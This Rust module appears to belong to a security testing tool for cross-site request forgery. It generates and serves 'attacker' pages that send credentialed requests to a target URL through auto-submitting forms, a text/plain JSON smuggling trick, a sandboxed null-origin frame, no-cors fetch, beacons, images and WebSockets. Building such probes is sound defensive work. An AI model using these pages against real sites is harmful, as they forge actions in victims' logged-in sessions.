//! The attacker's site: on this machine, on another origin than the target, one page at a time.

use std::{
    io::{self, BufRead, BufReader, Write},
    net::{SocketAddr, TcpListener, TcpStream},
    sync::{
        Arc, Mutex,
        atomic::{AtomicBool, AtomicU32, Ordering},
    },
    thread,
    time::Duration,
};

use crate::probe::encode;

/// What a page does.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Kind {
    Form,
    Multipart,
    Text,
    TopLevel,
    /// `fetch` of a `Blob` without a type.
    Untyped,
    Beacon,
    /// A sandboxed frame: `Origin: null`.
    Sandbox,
    Image,
    WebSocket,
}

/// The page that does it.
pub(crate) fn page(kind: Kind, url: &str, fields: &[(String, String)], json: Option<String>) -> String {
    let inputs: String = fields
        .iter()
        .map(|(name, value)| format!("<input type=hidden name=\"{}\" value=\"{}\">", escaped(name), escaped(value)))
        .collect();
    // Not at once: what a page's first script sends may be out before the browser tells of it.
    let script =
        |text: String| format!("<script>addEventListener('load', () => setTimeout(() => {{ {text} }}, 250))</script>");
    let form = |enctype: &str, target: &str, inputs: &str| {
        format!(
            "<form method=post action=\"{}\" enctype=\"{enctype}\"{target}>{inputs}</form>{}",
            escaped(url),
            script("document.forms[0].submit()".into())
        )
    };
    let frame = "<iframe name=frame></iframe>";
    let json = json.unwrap_or_else(|| {
        let members = fields.iter().map(|(name, value)| (name.clone(), serde_json::Value::from(value.as_str())));
        serde_json::Value::Object(members.collect()).to_string()
    });
    // In a script, `<` could end it.
    let quoted = |text: &str| serde_json::Value::from(text).to_string().replace('<', "\\u003c");
    let body = match kind {
        Kind::Form => format!("{frame}{}", form("application/x-www-form-urlencoded", " target=frame", &inputs)),
        Kind::Multipart => format!("{frame}{}", form("multipart/form-data", " target=frame", &inputs)),
        Kind::TopLevel => form("application/x-www-form-urlencoded", "", &inputs),
        Kind::Text => {
            let open = json.trim_end().strip_suffix('}').unwrap_or(&json);
            let input = format!(
                "<input type=hidden name=\"{}\" value=\"{}\">",
                escaped(&format!("{open},\"countersign\":\"")),
                escaped("\"}")
            );
            format!("{frame}{}", form("text/plain", " target=frame", &input))
        }
        Kind::Sandbox => format!(
            "<iframe sandbox=\"allow-scripts allow-forms\" srcdoc=\"{}\"></iframe>",
            escaped(&form("application/x-www-form-urlencoded", "", &inputs))
        ),
        Kind::Untyped => script(format!(
            "fetch({}, {{method: 'POST', mode: 'no-cors', credentials: 'include', body: new Blob([{}])}}).catch(() => 0)",
            quoted(url),
            quoted(&json)
        )),
        Kind::Beacon => {
            script(format!("navigator.sendBeacon({}, new URLSearchParams({}))", quoted(url), quoted(&encode(fields))))
        }
        Kind::Image => {
            let separator = if url.contains('?') { '&' } else { '?' };
            script(format!("new Image().src = {}", quoted(&format!("{url}{separator}{}", encode(fields)))))
        }
        Kind::WebSocket => script(format!("new WebSocket({})", quoted(&url.replacen("https://", "wss://", 1)))),
    };
    format!("<!doctype html><meta charset=utf-8><title>attacker</title><body>{body}")
}

fn escaped(text: &str) -> String {
    text.replace('&', "&amp;").replace('"', "&quot;").replace('<', "&lt;")
}

/// Serves the page that is shown now.
#[derive(Debug)]
pub(crate) struct PageServer {
    address: SocketAddr,
    now: Arc<Mutex<String>>,
    shown: AtomicU32,
    over: Arc<AtomicBool>,
}

impl PageServer {
    pub(crate) fn start() -> io::Result<Self> {
        let listener = TcpListener::bind("127.0.0.1:0")?;
        let (now, over) = (Arc::<Mutex<String>>::default(), Arc::<AtomicBool>::default());
        let server = Self {
            address: listener.local_addr()?,
            now: Arc::clone(&now),
            shown: AtomicU32::new(0),
            over: Arc::clone(&over),
        };
        thread::spawn(move || {
            for stream in listener.incoming() {
                if over.load(Ordering::Acquire) {
                    break;
                }
                if let Ok(stream) = stream {
                    // A browser opens connections that it may use much later: none may hold up the others.
                    let now = Arc::clone(&now);
                    thread::spawn(move || serve(&stream, &now));
                }
            }
        });
        Ok(server)
    }

    /// The address at which this page is served from now on.
    pub(crate) fn show(&self, page: String) -> String {
        *self.now.lock().unwrap_or_else(std::sync::PoisonError::into_inner) = page;
        format!("http://{}/{}", self.address, self.shown.fetch_add(1, Ordering::Relaxed))
    }
}

impl Drop for PageServer {
    fn drop(&mut self) {
        self.over.store(true, Ordering::Release);
        let _ = TcpStream::connect(self.address);
    }
}

fn serve(stream: &TcpStream, now: &Mutex<String>) {
    let _ = stream.set_read_timeout(Some(Duration::from_secs(10)));
    let mut lines = BufReader::new(stream).lines();
    while let Some(Ok(line)) = lines.next() {
        if line.is_empty() {
            let page = now.lock().unwrap_or_else(std::sync::PoisonError::into_inner).clone();
            let head = format!(
                "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nCache-Control: no-store\r\nConnection: close\r\nContent-Length: {}\r\n\r\n",
                page.len()
            );
            let mut to = stream;
            let _ = to.write_all(head.as_bytes()).and_then(|()| to.write_all(page.as_bytes()));
            return;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn values_stay_values() {
        let fields = [("a\"b".to_owned(), "</script><script>".to_owned())];
        for kind in [Kind::Form, Kind::Text, Kind::Untyped, Kind::Beacon, Kind::Sandbox, Kind::Image] {
            let page = page(kind, "https://app.example.com/x?a&b", &fields, None);
            assert!(!page.contains("<script><script>") && !page.contains("</script><script>\"}"), "{kind:?}: {page}");
            assert!(!page.contains("name=\"a\"b\""), "{kind:?}: {page}");
        }
    }
}
